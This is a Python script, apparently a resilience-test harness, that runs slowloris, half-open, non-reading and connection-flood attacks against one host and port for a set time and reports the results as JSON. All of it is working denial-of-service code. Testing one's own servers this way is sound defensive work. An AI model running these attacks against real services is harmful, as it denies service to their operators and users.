"""Attacks one ingress listener from one address for a bounded time; prints a JSON summary.

Usage: ingress_attacker.py HOST PORT SECONDS

At once, for SECONDS:
* slowloris: 100 connections that trickle one byte of an HTTP request every 2 s;
* half-open: 20 connections that half-close at once and never read;
* non-readers: 30 connections that ask for a big file and never read the answer;
* flood: connect and close as fast as one socket at a time allows.
Then it closes everything and reports what it managed.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import sys
import time


async def slowloris(host: str, port: int, end: float, held: list[asyncio.StreamWriter]) -> int:
    try:
        _, writer = await asyncio.open_connection(host, port)
    except OSError:
        return 0
    held.append(writer)
    request = b"GET / HTTP/1.1\r\nHost: x\r\nX-a: " + b"a" * 1000
    sent = 0
    with contextlib.suppress(OSError):
        while time.monotonic() < end and sent < len(request):
            writer.write(request[sent : sent + 1])
            await writer.drain()
            sent += 1
            await asyncio.sleep(2)
    return sent


async def half_open(host: str, port: int, held: list[asyncio.StreamWriter]) -> None:
    with contextlib.suppress(OSError):
        _, writer = await asyncio.open_connection(host, port)
        held.append(writer)
        writer.write_eof()


async def non_reader(host: str, port: int, held: list[asyncio.StreamWriter]) -> None:
    with contextlib.suppress(OSError):
        sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # hold little ourselves
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (host, port))
        _, writer = await asyncio.open_connection(sock=sock)
        held.append(writer)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"GET /big HTTP/1.0\r\n\r\n")


async def flood(host: str, port: int, end: float) -> tuple[int, int]:
    made = refused = 0
    while time.monotonic() < end:
        try:
            _, writer = await asyncio.open_connection(host, port)
        except OSError:
            refused += 1
            await asyncio.sleep(0)
            continue
        made += 1
        writer.transport.abort()
    return made, refused


async def main() -> None:
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    end = time.monotonic() + seconds
    held: list[asyncio.StreamWriter] = []
    await asyncio.gather(*(non_reader(host, port, held) for _ in range(30)))
    await asyncio.gather(*(half_open(host, port, held) for _ in range(20)))
    loris = [asyncio.ensure_future(slowloris(host, port, end, held)) for _ in range(100)]
    made, refused = await flood(host, port, end)
    trickled = await asyncio.gather(*loris)
    alive = sum(1 for w in held if not w.is_closing())
    for writer in held:
        writer.transport.abort()
    print(
        json.dumps(
            {
                "seconds": seconds,
                "floodConnects": made,
                "floodRefused": refused,
                "held": len(held),
                "heldAliveAtEnd": alive,
                "trickledBytes": sum(trickled),
            }
        )
    )


asyncio.run(main())
